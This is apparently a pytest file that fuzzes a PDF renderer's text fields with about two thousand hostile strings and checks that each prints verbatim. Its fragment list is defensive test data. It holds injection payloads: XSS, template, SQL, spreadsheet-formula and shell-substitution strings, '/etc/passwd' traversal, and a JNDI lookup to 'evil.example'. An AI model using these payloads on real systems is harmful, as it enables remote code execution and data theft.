"""Two thousand strings that would like to be something else, in every field that a document prints: each is printed as it is.

Each text ends in a mark of its own, so that it is found once and nowhere else. What poppler reads out of the PDF is
compared without white space, because lines break where they must.
"""

from __future__ import annotations

import random
import subprocess
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from packets.documents.catalog import load_catalog
from packets.errors import RenderError
from packets.model.documents import DocumentType
from packets.render.document import render_document
from packets.render.fonts import ensure_fonts
from packets.render.variants import change_texts

CATALOG = load_catalog()
EACH = 400  # strings a kind: two thousand over the five
LONGEST = 480
FRAGMENTS = (
    "<b>", "</b>", "</p></document>", "<script>alert(1)</script>", "<!-- x -->", "<![CDATA[", "]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>", "&b;", "&amp;", "&lt;", "&#0;", "&#60;", "&#x3C;", "&nbsp;", "&", "<", ">", '"', "'",
    "{{ 7*7 }}", "{% raw %}", "{% endfor %}", "{#", "#}", "{{ aco.__class__ }}", "}}", "%}",
    ") Tj ET Q", "BT /F1 12 Tf", "[(a)-250(b)] TJ", "\\", "\\(", "\\051", "(", ")", "((", "))", "<</A 1>>", "<feff0041>",
    "endstream", "endobj", "%%EOF", "/Artifact BMC", "EMC", "%", "1 0 obj",
    "=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\u2212", "--", "'; DROP TABLE documents; --",
    "https://evil.example/?a=1&b=2#c", "javascript:alert(1)", "file:///etc/passwd", "../../etc/passwd", "%s%n", "%00", "$(id)",
    "`id`", "${jndi:ldap://evil.example/a}", "null", "None", "undefined", "NaN", "0", "true",
    "Ελληνικά", "ΑΒΓ", "άέή", "Кириллица", "Щука", "Ёжик", "Łódź", "Ñandú", "Þór", "İstanbul", "ǅ", "ß", "æœ",
    "ﬁ", "№", "€", "½", "x²", "Á̧", "ȩ̂", "…", "„“", "«»", "·", "‽", "™", "†",
    "W" * 60, "i" * 90, "-" * 70, "a-b/c@d.e_" * 9, "Щ" * 50,
)  # fmt: skip
"""What hostile texts are put together from; nothing unprintable is among them."""
UNPRINTABLE = {
    "\x00": "no name", "\x1b": "no name", "\u00ad": "SOFT HYPHEN", "\u200b": "ZERO WIDTH SPACE", "\u2028": "LINE SEPARATOR",
    "\u202e": "RIGHT-TO-LEFT OVERRIDE", "\ufeff": "ZERO WIDTH NO-BREAK SPACE", "\ue000": "no name", "\uffff": "no name",
    "\ud800": "no name", "\U0001f600": "GRINNING FACE", "א": "HEBREW LETTER ALEF", "漢": "CJK UNIFIED IDEOGRAPH-6F22",
}  # fmt: skip


def hostile_texts(seed: str) -> Iterator[str]:
    """Endless hostile texts, the same for the same seed, every fragment first by itself."""
    dice = random.Random(seed)  # noqa: S311  nothing secret
    yield from FRAGMENTS
    while True:
        parts = dice.choices(FRAGMENTS, k=dice.randint(2, 6))
        yield dice.choice(("", " ")).join(parts)[:LONGEST]


def squeezed(text: str) -> str:
    """Composed, without white space."""
    return "".join(unicodedata.normalize("NFC", text).split())


def text_of(pdf: bytes, folder: Path) -> str:
    """What poppler reads between head and foot of every page, in the order in which it was written."""
    path = folder / "hostile.pdf"
    path.write_bytes(pdf)
    box = ["-x", "0", "-y", "60", "-W", "612", "-H", "670"]
    command = ["pdftotext", "-raw", "-nopgbrk", *box, str(path), "-"]
    return squeezed(subprocess.run(command, capture_output=True, check=True, text=True).stdout)


def with_texts(document_type: DocumentType, texts: dict[str, str]) -> dict[str, Any]:
    """The sample data with other texts at some paths."""
    return change_texts(document_type, texts.get)


def free_places(document_type: DocumentType) -> list[str]:
    """The path of every text field that whoever fills it in may choose, but for the keys that people are found by."""
    found: list[str] = []

    def note(where: str, value: str) -> str:
        found.append(where)
        return value

    change_texts(document_type, note)
    return [where for where in found if not where.endswith((".role", ".state"))]


def printed_places(document_type: DocumentType, folder: Path) -> list[str]:
    """The fields that the document prints: found by what stands in them."""
    marks = {where: f"mark{index:04}end" for index, where in enumerate(free_places(document_type))}
    text = text_of(render_document(document_type, with_texts(document_type, marks)).pdf, folder)
    return [where for where, mark in marks.items() if mark in text]


@pytest.mark.parametrize("kind", list(CATALOG))
def test_hostile_texts_are_printed_as_they_are_in_every_field(kind: str, tmp_path: Path) -> None:
    """No text becomes markup, code, an operator or a formula, and none loses a letter, whatever field it stands in."""
    document_type = CATALOG[kind]
    places = printed_places(document_type, tmp_path)
    assert "aco.legal_name" in places
    assert all(any(where.startswith(f"rosters.{one.name}.") for where in places) for one in document_type.rosters)
    texts, done = hostile_texts(kind), 0
    while done < max(EACH, len(places)):
        given = {where: f"{next(texts)}~{done + index}~" for index, where in enumerate(places)}
        read = text_of(render_document(document_type, with_texts(document_type, given)).pdf, tmp_path)
        lost = {where: text for where, text in given.items() if squeezed(text) not in read}
        assert lost == {}
        done += len(places)


@pytest.mark.parametrize("kind", list(CATALOG))
def test_what_cannot_be_printed_is_refused_by_name_in_every_field(kind: str) -> None:
    """All fields are spoilt at once; each is told with its own character and its own path."""
    document_type = CATALOG[kind]
    characters = list(UNPRINTABLE)
    spoilt = {where: characters[index % len(characters)] for index, where in enumerate(free_places(document_type))}
    with pytest.raises(RenderError) as refused:
        render_document(document_type, with_texts(document_type, {where: f"a{one}b" for where, one in spoilt.items()}))
    told = {problem.where: problem.sentence for problem in refused.value.problems}
    assert told.keys() == spoilt.keys()
    assert all(f"U+{ord(one):04X} ({UNPRINTABLE[one]})" in told[where] for where, one in spoilt.items())


def test_no_fragment_is_unprintable() -> None:
    """The two tests are about different texts: what the first prints the typefaces have."""
    letters = {letter for one in FRAGMENTS for letter in unicodedata.normalize("NFC", one)}
    assert {letter for letter in letters if ord(letter) not in ensure_fonts().coverage} == set()
